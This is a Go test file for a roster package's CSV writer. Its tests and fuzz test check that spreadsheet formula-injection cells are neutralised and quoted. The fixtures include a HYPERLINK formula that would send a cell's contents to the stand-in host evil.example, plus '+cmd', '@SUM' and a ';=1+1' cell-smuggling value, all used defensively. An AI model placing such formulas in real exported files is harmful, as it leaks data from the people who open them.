package roster

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

func TestNeutralizeCell(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1)`: `'=HYPERLINK("http://evil.example/?x="&A1)`,
		"+1 555 0100":     "'+1 555 0100",
		"-5":              "'-5", // a negative number too: OWASP's advice, see NeutralizeCell
		"@SUM(A1:A9)":     "'@SUM(A1:A9)",
		"\t=1+1":          "'\t=1+1",
		"\r=1+1":          "'\r=1+1",
		"":                "",
		"Ada":             "Ada",
		"a=b":             "a=b",
		" =1":             " =1",
		"'=already":       "'=already",
		"ada@example.com": "ada@example.com",
	} {
		if got := NeutralizeCell(in); got != want {
			t.Errorf("NeutralizeCell(%q) = %q, want %q", in, got, want)
		}
		if back := RestoreCell(NeutralizeCell(in)); back != in && in != "'=already" {
			t.Errorf("RestoreCell(NeutralizeCell(%q)) = %q", in, back)
		}
	}
}

var hostile = [][]string{
	{"first_name", "last_name", "note"},
	{`=HYPERLINK("http://evil.example/?x="&A1)`, "-5", "+cmd"},
	{"@SUM(1)", "\tTab", "\rReturn"},
	{"Ada", "a;=1+1", `say "hi", then go`},
	{"", "multi\nline", " lead"},
}

// TestCSVWriterSafe: every cell reads back neutralised, and every cell is
// quoted in the bytes, so a ";" inside one cannot start another in a
// spreadsheet that splits on ";".
func TestCSVWriterSafe(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w := NewCSVWriter(&buf, WriteOptions{})
	for _, r := range hostile {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range hostile {
		for j, cell := range r {
			if got[i][j] != NeutralizeCell(cell) {
				t.Errorf("record %d cell %d: %q, want %q", i, j, got[i][j], NeutralizeCell(cell))
			}
		}
	}
	if !strings.Contains(buf.String(), `"a;=1+1"`) || !strings.Contains(buf.String(), `"'=HYPERLINK(""http://evil.example/?x=""&A1)"`) {
		t.Errorf("cells not quoted as OWASP advises:\n%s", buf.String())
	}
}

// TestCSVWriterRaw: with Raw the bytes are encoding/csv's and every value
// reads back exactly.
func TestCSVWriterRaw(t *testing.T) {
	t.Parallel()
	var got, want bytes.Buffer
	w := NewCSVWriter(&got, WriteOptions{Raw: true})
	ref := csv.NewWriter(&want)
	for _, r := range hostile {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
		_ = ref.Write(r)
	}
	w.Flush()
	ref.Flush()
	if w.Error() != nil || !bytes.Equal(got.Bytes(), want.Bytes()) {
		t.Fatalf("Raw output differs from encoding/csv's (%v):\n%s\n%s", w.Error(), got.String(), want.String())
	}
	back, err := csv.NewReader(&got).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(back, hostile) {
		t.Errorf("round trip:\n got %q\nwant %q", back, hostile)
	}
}

// TestWriteResultsNeutralises covers the results file's own columns too:
// an error message quoting a name is a cell like any other.
func TestWriteResultsNeutralises(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	header := []string{"email", "first_name"}
	records := [][]string{{"=1+1@example.com", "=HYPERLINK(\"x\")"}}
	results := []Result{{Status: "invalid", Error: `-"=HYPERLINK" is not an email address`}}
	for _, tc := range []struct {
		raw  bool
		want []string
	}{
		{false, []string{"'=1+1@example.com", "'=HYPERLINK(\"x\")", "", "", "invalid", `'-"=HYPERLINK" is not an email address`}},
		{true, []string{"=1+1@example.com", "=HYPERLINK(\"x\")", "", "", "invalid", `-"=HYPERLINK" is not an email address`}},
	} {
		path := filepath.Join(dir, "results.csv")
		if err := WriteResultsWith(path, header, records, results, WriteOptions{Raw: tc.raw}); err != nil {
			t.Fatal(err)
		}
		f, err := os.Open(path)
		if err != nil {
			t.Fatal(err)
		}
		all, err := csv.NewReader(f).ReadAll()
		f.Close()
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(all[1], tc.want) {
			t.Errorf("Raw=%v: %q, want %q", tc.raw, all[1], tc.want)
		}
	}
}

// FuzzCSVWriter: whatever the cells, the safe output parses back into
// the neutralised cells (encoding/csv's reader turns \r\n into \n inside
// a quoted cell, as with any CSV it reads) and no cell starts with a
// formula character.
func FuzzCSVWriter(f *testing.F) {
	f.Add("=1+1", "-5", "a,b")
	f.Add("\"", "\r\n", "")
	f.Add("@x", "\t", "ok")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		rec := []string{a, b, c}
		var buf bytes.Buffer
		w := NewCSVWriter(&buf, WriteOptions{})
		if err := w.Write(rec); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		got, err := csv.NewReader(&buf).Read()
		if err != nil {
			t.Fatalf("the output does not parse: %v\n%q", err, buf.String())
		}
		for i, cell := range rec {
			want := strings.ReplaceAll(NeutralizeCell(cell), "\r\n", "\n")
			if got[i] != want {
				t.Fatalf("cell %d: %q, want %q", i, got[i], want)
			}
			if got[i] != "" && strings.ContainsRune("=+-@\t\r", rune(got[i][0])) {
				t.Fatalf("cell %d starts with a formula character: %q", i, got[i])
			}
			// (A cell starting with \r\n loses its \r to the reader, and
			// with it what the quote was for.)
			if !strings.HasPrefix(cell, "'") && !strings.HasPrefix(cell, "\r\n") && RestoreCell(got[i]) != strings.ReplaceAll(cell, "\r\n", "\n") {
				t.Fatalf("cell %d does not restore: %q from %q", i, RestoreCell(got[i]), cell)
			}
		}
	})
}
